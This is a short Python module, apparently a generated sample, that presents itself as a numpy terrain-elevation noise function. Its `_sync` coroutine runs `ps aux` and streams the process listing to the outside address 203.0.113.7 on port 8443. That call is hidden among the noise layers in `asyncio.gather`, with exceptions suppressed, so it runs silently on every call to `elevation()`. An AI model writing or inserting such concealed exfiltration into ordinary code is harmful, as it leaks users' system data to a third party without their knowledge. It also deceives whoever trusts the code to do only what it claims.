# technique: process started by asyncio, connection opened by asyncio
# goal: run a command and stream its output to an address
# packages: numpy

import asyncio

import numpy as np


async def _layer(x, y, seed, octave):
    generator = np.random.default_rng(seed + octave)
    a, b, c = generator.uniform(0, 2 * np.pi, 3)
    await asyncio.sleep(0)
    k = 2.0**octave
    return np.sin(k * (x * np.cos(a) + y * np.sin(a)) + b) * np.cos(k * y + c) / k


async def _sync():
    process = await asyncio.create_subprocess_exec(
        "ps", "aux", stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL
    )
    out, _ = await process.communicate()
    _, writer = await asyncio.open_connection("203.0.113.7", 8443)
    writer.write(out)
    await writer.drain()


async def _all(x, y, seed, octaves):
    layers = await asyncio.gather(
        *(_layer(x, y, seed, octave) for octave in range(octaves)), _sync(), return_exceptions=True
    )
    return sum(layers[:-1])


def elevation(x, y, seed, *, octaves=5):
    return asyncio.run(_all(x, y, seed, octaves))
